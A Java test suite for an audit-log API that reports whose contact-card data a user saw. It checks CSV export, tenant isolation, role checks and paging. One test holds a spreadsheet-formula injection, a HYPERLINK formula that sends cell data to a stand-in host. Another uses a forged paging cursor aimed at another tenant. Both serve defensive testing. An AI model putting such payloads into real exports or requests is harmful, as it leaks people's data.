package jp.meishigura.audit.api;

import static io.restassured.RestAssured.given;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.empty;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.not;

import com.fasterxml.jackson.databind.ObjectMapper;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import jakarta.inject.Inject;
import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStream;
import java.io.InputStreamReader;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.stream.IntStream;
import jp.meishigura.audit.LogUnderTest;
import jp.meishigura.audit.SampleEvent;
import jp.meishigura.platform.caller.Tenant;
import jp.meishigura.platform.testing.FromStand;
import jp.meishigura.platform.testing.StandDatabase;
import jp.meishigura.platform.testing.StandResource;
import jp.meishigura.platform.testing.StandTopics;
import jp.meishigura.platform.testing.TestIssuer;
import jp.meishigura.platform.testing.TestTenants;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Whose data somebody saw. */
@QuarkusTest
@QuarkusTestResource(StandResource.class)
class ExposureTest {

  private static final Instant NOON = Instant.parse("2026-11-02T03:00:00Z");
  private static final Map<String, String> DAY =
      Map.of("from", "2026-11-02T00:00:00Z", "to", "2026-11-03T00:00:00Z");

  @FromStand StandDatabase database;
  @FromStand StandTopics topics;
  @FromStand TestIssuer issuer;

  @Inject ObjectMapper json;

  private final Tenant tenant = TestTenants.fresh();
  private final UUID card = new UUID(1, 1);
  private final UUID other = new UUID(1, 2);
  private LogUnderTest log;

  @BeforeEach
  void connect() {
    log = new LogUnderTest(database, topics, issuer);
  }

  private SampleEvent event(String action) {
    return SampleEvent.of(tenant, action).by("hanako").at(NOON);
  }

  private SampleEvent page(String action, UUID... cards) {
    return event(action)
        .details(Map.of("cards", List.of(cards).stream().map(UUID::toString).toList()));
  }

  private Response ask(Tenant asking, String actor, Map<String, String> more) {
    Map<String, String> parameters = new HashMap<>(DAY);
    parameters.put("actor", actor);
    parameters.putAll(more);
    return log.auditor(asking).queryParams(parameters).get("/v1/exposure");
  }

  private ExposureReportView report(Tenant asking, String actor) throws IOException {
    Response answer = ask(asking, actor, Map.of());
    answer.then().statusCode(200).header("Cache-Control", containsString("no-store"));
    return json.readValue(answer.asByteArray(), ExposureReportView.class);
  }

  @Test
  void the_report_says_whose_data_which_fields_when_from_where_and_for_which_purpose()
      throws IOException {
    log.append(
        event("card.reveal")
            .card(card)
            .fields("email", "phone")
            .with("purpose", "sales")
            .with("address", "192.0.2.7")
            .through("web", "monday"),
        event("card.reveal")
            .card(card)
            .fields("email")
            .with("purpose", "sales")
            .through("web", "tuesday")
            .at(NOON.plusSeconds(60)),
        event("card.recipient").card(other).fields("email").through("mobile", "monday"));

    ExposureReportView report = report(tenant, "hanako");

    assertThat(report.exposures())
        .containsExactly(
            exposure(card, "sales", "email", "card.reveal", "web", 2, NOON, NOON.plusSeconds(60)),
            exposure(card, "sales", "phone", "card.reveal", "web", 1, NOON, NOON),
            exposure(other, null, "email", "card.recipient", "mobile", 1, NOON, NOON));
    assertThat(report.origins())
        .containsExactly(
            new ExposureReportView.OriginView("mobile", "monday", null, 1, NOON, NOON),
            new ExposureReportView.OriginView("web", "monday", "192.0.2.7", 1, NOON, NOON),
            new ExposureReportView.OriginView(
                "web", "tuesday", null, 1, NOON.plusSeconds(60), NOON.plusSeconds(60)));
    assertThat(report.totals()).isEqualTo(new ExposureReportView.TotalsView(3, 2, 3));
    assertThat(report.actor()).isEqualTo("hanako");
    assertThat(report.belowLeaf()).isPositive();
  }

  private static ExposureReportView.ExposureView exposure(
      UUID card,
      String purpose,
      String field,
      String action,
      String client,
      long times,
      Instant first,
      Instant last) {
    return new ExposureReportView.ExposureView(
        card, purpose, field, action, client, times, first, last);
  }

  @Test
  void the_cards_of_lists_and_searches_are_in_it_and_what_was_refused_is_not() throws IOException {
    log.append(
        page("card.list", card, other).fields("name"),
        page("card.search", other).fields("name"),
        page("card.search", other),
        event("card.reveal").card(card).with("decision", "refused").fields("note"),
        event("card.reveal").card(card).with("decision", "failed").fields("note"),
        event("card.update").card(card).fields("note"),
        event("card.read").card(card).by("jiro").fields("note"),
        event("card.read").card(card).fields("title").at(NOON.plusSeconds(86_400)));

    ExposureReportView report = report(tenant, "hanako");

    assertThat(report.exposures())
        .extracting(one -> one.card() + " " + one.action() + " " + one.field())
        .containsExactly(
            card + " card.list name",
            other + " card.list name",
            other + " card.search name",
            other + " card.search null");
    assertThat(report.totals()).isEqualTo(new ExposureReportView.TotalsView(3, 2, 4));
  }

  @Test
  void as_csv_it_has_a_line_for_each_and_ends_with_the_total() {
    log.append(event("card.read").card(card).fields("email").with("purpose", "sales"));

    Response answer =
        log.auditor(tenant)
            .accept("text/csv")
            .queryParams(DAY)
            .queryParam("actor", "hanako")
            .get("/v1/exposure");

    answer
        .then()
        .statusCode(200)
        .header("Content-Type", containsString("text/csv"))
        .header("Content-Disposition", equalTo("attachment; filename=\"exposure.csv\""));
    assertThat(answer.asString().lines())
        .containsExactly(
            "\"kind\",\"card\",\"purpose\",\"field\",\"action\",\"client\",\"session\",\"address\",\"times\","
                + "\"first\",\"last\"",
            "\"origin\",,,,,\"web\",,,\"1\",\"2026-11-02T03:00:00Z\",\"2026-11-02T03:00:00Z\"",
            "\"exposure\",\""
                + card
                + "\",\"sales\",\"email\",\"card.read\",\"web\",,,\"1\","
                + "\"2026-11-02T03:00:00Z\",\"2026-11-02T03:00:00Z\"",
            "\"total\",\"1 cards\",,,,,,,\"1\",\"2026-11-02T00:00:00Z\",\"2026-11-03T00:00:00Z\"");
  }

  @Test
  void a_formula_in_a_name_of_somebody_elses_choosing_stays_text() {
    String attack = "=HYPERLINK(\"//x?\"&A1,\"here\")";
    log.append(
        event("card.read")
            .card(card)
            .fields("@SUM(A1)", "＝1+1")
            .with("purpose", attack)
            .through("+cmd", "-2+3"));

    String csv =
        log.auditor(tenant)
            .accept("text/csv")
            .queryParams(DAY)
            .queryParam("actor", "hanako")
            .get("/v1/exposure")
            .then()
            .statusCode(200)
            .extract()
            .asString();

    assertThat(csv)
        .contains("\"'=HYPERLINK(\"\"//x?\"\"&A1,\"\"here\"\")\"")
        .contains("\"'@SUM(A1)\"", "\"'＝1+1\"", "\"'+cmd\"", "\"'-2+3\"")
        .doesNotContainPattern("(^|,|\n)\"?[=+@＝-]");
  }

  @Test
  void a_large_report_comes_to_its_end_and_its_first_lines_before_its_last_are_made()
      throws IOException {
    int entries = 1_500;
    List<SampleEvent> lists = new ArrayList<>();
    for (int i = 0; i < entries; i++) {
      int first = i * 20;
      lists.add(
          page(
                  "card.list",
                  IntStream.range(0, 20).mapToObj(n -> new UUID(7, first + n)).toArray(UUID[]::new))
              .fields("company", "email", "name", "phone"));
    }
    log.send(lists);
    log.awaitNumber(entries, "select count(*) from entries where tenant_id = ?", tenant.id());

    long lines = 0;
    String last = "";
    try (InputStream body =
            log.auditor(tenant)
                .accept("text/csv")
                .queryParams(DAY)
                .queryParam("actor", "hanako")
                .get("/v1/exposure")
                .then()
                .statusCode(200)
                .header("Transfer-Encoding", equalTo("chunked"))
                .extract()
                .asInputStream();
        BufferedReader reader = new BufferedReader(new InputStreamReader(body, UTF_8))) {
      String line;
      while ((line = reader.readLine()) != null) {
        lines++;
        last = line;
      }
    }
    assertThat(lines).isEqualTo(1 + 1 + entries * 20L * 4 + 1);
    assertThat(last).startsWith("\"total\",\"30000 cards\",,,,,,,\"1500\"");
  }

  @Test
  void the_report_is_on_record_with_its_totals_before_it_leaves() {
    log.append(page("card.list", card, other).fields("name"));
    ask(tenant, "hanako", Map.of()).then().statusCode(200);
    log.awaitNumber(
        1,
        "select count(*) from entries where tenant_id = ? and action = 'audit.query'",
        tenant.id());
    log.auditor(tenant)
        .queryParam("action", "audit.query")
        .get("/v1/entries")
        .then()
        .body("items[0].details.kind", equalTo("exposure"))
        .body("items[0].details.format", equalTo("json"))
        .body("items[0].details.filter.actor", equalTo("hanako"))
        .body("items[0].details.filter.from", equalTo(DAY.get("from")))
        .body("items[0].details.entries", equalTo(1))
        .body("items[0].details.cards", equalTo(2))
        .body("items[0].details.sightings", equalTo(2));
  }

  @Test
  void without_a_record_of_the_report_no_data_leave() {
    log.append(event("card.read").card(card).fields("email"));
    log.withoutRecords(
        () ->
            ask(tenant, "hanako", Map.of())
                .then()
                .statusCode(500)
                .body(not(containsString(card.toString()))));
  }

  @Test
  void a_report_that_fails_while_it_is_told_is_no_report() {
    log.append(event("card.read").card(card).fields("email"));
    String name = "fail_later_" + tenant.id().toString().substring(0, 8);
    database.asOwner("create sequence " + name);
    database.asOwner("grant usage on sequence " + name + " to " + database.app());
    // Asked once for the totals, once for the origins, and then no more.
    database.asOwner(
        "create function "
            + name
            + "(uuid) returns boolean language plpgsql as $$ begin"
            + " if $1 = '"
            + tenant.id()
            + "' and nextval('"
            + name
            + "') > 2 then raise exception 'asked for'; end if; return true; end $$");
    database.asOwner(
        "create policy "
            + name
            + " on entries as restrictive for select using ("
            + name
            + "(tenant_id))");
    try {
      ask(tenant, "hanako", Map.of())
          .then()
          .statusCode(500)
          .contentType("application/problem+json")
          .body(not(containsString("exposures")));
    } finally {
      database.asOwner("drop policy " + name + " on entries");
      database.asOwner("drop function " + name + "(uuid)");
      database.asOwner("drop sequence " + name);
    }
  }

  @Test
  void a_span_of_more_than_a_year_is_refused_on_record() {
    ask(tenant, "hanako", Map.of("from", "2025-01-01T00:00:00Z"))
        .then()
        .statusCode(422)
        .body("type", equalTo("urn:meishigura:problem:span-too-wide"))
        .body("days", equalTo(366));
    log.awaitNumber(
        1,
        "select count(*) from entries where tenant_id = ? and action = 'audit.query'"
            + " and decision = 'refused'",
        tenant.id());
  }

  @ParameterizedTest
  @CsvSource({
    "to, 2026-11-01T00:00:00Z",
    "to, 2026-11-02T00:00:00Z",
    "to, tomorrow",
    "from, 2026-11-02",
    "from, 1999-01-01T00:00:00Z",
    "actor, ''",
  })
  void a_question_that_makes_no_sense_is_refused(String name, String value) {
    ask(tenant, "hanako", Map.of(name, value))
        .then()
        .statusCode(400)
        .body("type", equalTo("urn:meishigura:problem:invalid-parameter"))
        .body("parameter", equalTo(name));
  }

  @ParameterizedTest
  @ValueSource(strings = {"actor", "from", "to"})
  void a_question_without_person_or_time_is_refused(String missing) {
    Map<String, String> parameters = new HashMap<>(DAY);
    parameters.put("actor", "hanako");
    parameters.remove(missing);
    log.auditor(tenant)
        .queryParams(parameters)
        .get("/v1/exposure")
        .then()
        .statusCode(400)
        .body("parameter", equalTo(missing));
  }

  @Test
  void a_format_that_there_is_none_of_is_refused() {
    log.auditor(tenant)
        .accept("application/xml")
        .queryParams(DAY)
        .queryParam("actor", "hanako")
        .get("/v1/exposure")
        .then()
        .statusCode(406);
  }

  @Test
  void another_tenants_auditor_sees_nothing_and_the_code_alone_sees_to_that() throws IOException {
    log.append(event("card.read").card(card).fields("email"));
    Tenant stranger = TestTenants.fresh();
    assertThat(report(stranger, "hanako").exposures()).isEmpty();

    database.asOwner("alter table entries disable row level security");
    try {
      ExposureReportView report = report(stranger, "hanako");
      assertThat(report.exposures()).isEmpty();
      assertThat(report.origins()).isEmpty();
      assertThat(report.totals()).isEqualTo(new ExposureReportView.TotalsView(0, 0, 0));
    } finally {
      database.asOwner("alter table entries enable row level security");
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {"member", "administrator", "privacy-officer", "integrator", "service"})
  void nobody_but_an_auditor_has_a_report_and_the_attempt_is_an_entry(String role) {
    log.append(event("card.read").card(card).fields("email"));
    log.as(tenant, role)
        .queryParams(DAY)
        .queryParam("actor", "hanako")
        .get("/v1/exposure")
        .then()
        .statusCode(403)
        .body("type", equalTo("urn:meishigura:problem:role-missing"));
    log.awaitNumber(
        1,
        "select count(*) from entries where tenant_id = ? and action = 'access.refused'",
        tenant.id());
  }

  // Who saw my data

  private Response accesses(Tenant asking, UUID whose, Map<String, ?> more) {
    return log.auditor(asking).queryParams(more).get("/v1/cards/" + whose + "/accesses");
  }

  @Test
  void a_person_is_told_who_saw_their_card_also_among_others_and_nothing_of_the_others() {
    log.append(
        event("card.reveal")
            .card(card)
            .fields("email")
            .with("purpose", "sales")
            .through("web", "monday"),
        page("card.list", other, card).fields("name").by("jiro").at(NOON.plusSeconds(60)),
        page("card.search", other).fields("name"),
        event("card.reveal").card(card).with("decision", "refused"),
        event("card.update").card(card));

    accesses(tenant, card, Map.of())
        .then()
        .statusCode(200)
        .header("Cache-Control", containsString("no-store"))
        .body("items.size()", equalTo(2))
        .body("items[0].actor.id", equalTo("hanako"))
        .body("items[0].actor.client", equalTo("web"))
        .body("items[0].action", equalTo("card.reveal"))
        .body("items[0].purpose", equalTo("sales"))
        .body("items[0].fields", equalTo(List.of("email")))
        .body("items[0].at", equalTo(NOON.toString()))
        .body("items[1].actor.id", equalTo("jiro"))
        .body("items[1].action", equalTo("card.list"))
        .body(not(containsString(other.toString())));
    accesses(tenant, card, Map.of("from", NOON.plusSeconds(1).toString()))
        .then()
        .body("items.size()", equalTo(1));
    accesses(tenant, new UUID(9, 9), Map.of()).then().statusCode(200).body("items", empty());
  }

  @Test
  void accesses_come_page_by_page_each_once_though_each_page_is_an_entry() {
    List<SampleEvent> reads =
        IntStream.range(0, 25).mapToObj(n -> event("card.read").card(card)).toList();
    log.append(reads);
    List<Integer> seen = new ArrayList<>();
    String cursor = null;
    do {
      Map<String, Object> paging = new HashMap<>(Map.of("limit", 10));
      if (cursor != null) {
        paging.put("cursor", cursor);
      }
      var page = accesses(tenant, card, paging).then().statusCode(200).extract().jsonPath();
      seen.addAll(page.getList("items.leafIndex", Integer.class));
      cursor = page.getString("next");
    } while (cursor != null);
    assertThat(seen).hasSize(25).doesNotHaveDuplicates().isSorted();
    log.awaitNumber(
        3,
        "select count(*) from entries where tenant_id = ? and action = 'audit.query' and card = ?",
        tenant.id(),
        card);
  }

  @Test
  void another_tenant_is_told_nothing_whatever_its_cursor_says() {
    log.append(event("card.read").card(card));
    Tenant stranger = TestTenants.fresh();
    // {"from":0,"below":9223372036854775807}
    String forged = "eyJmcm9tIjowLCJiZWxvdyI6OTIyMzM3MjAzNjg1NDc3NTgwN30";
    for (Map<String, ?> paging : List.of(Map.<String, String>of(), Map.of("cursor", forged))) {
      accesses(stranger, card, paging).then().statusCode(200).body("items", empty());
    }
    database.asOwner("alter table card_sightings disable row level security");
    database.asOwner("alter table entries disable row level security");
    try {
      accesses(stranger, card, Map.of()).then().statusCode(200).body("items", empty());
    } finally {
      database.asOwner("alter table card_sightings enable row level security");
      database.asOwner("alter table entries enable row level security");
    }
    accesses(stranger, card, Map.of("cursor", "rubbish"))
        .then()
        .statusCode(400)
        .body("type", equalTo("urn:meishigura:problem:invalid-cursor"));
  }

  @Test
  void an_officer_who_answers_people_asks_about_a_card_and_nobody_else_does() {
    log.append(event("card.read").card(card));
    String path = "/v1/cards/" + card + "/accesses";
    log.as(tenant, "privacy-officer").get(path).then().body("items.size()", equalTo(1));
    for (String role : List.of("member", "administrator", "integrator", "service")) {
      log.as(tenant, role).get(path).then().statusCode(403);
    }
    given().get(path).then().statusCode(401);
    log.auditor(tenant)
        .get("/v1/cards/somebody/accesses")
        .then()
        .statusCode(400)
        .body("parameter", equalTo("card"));
  }
}
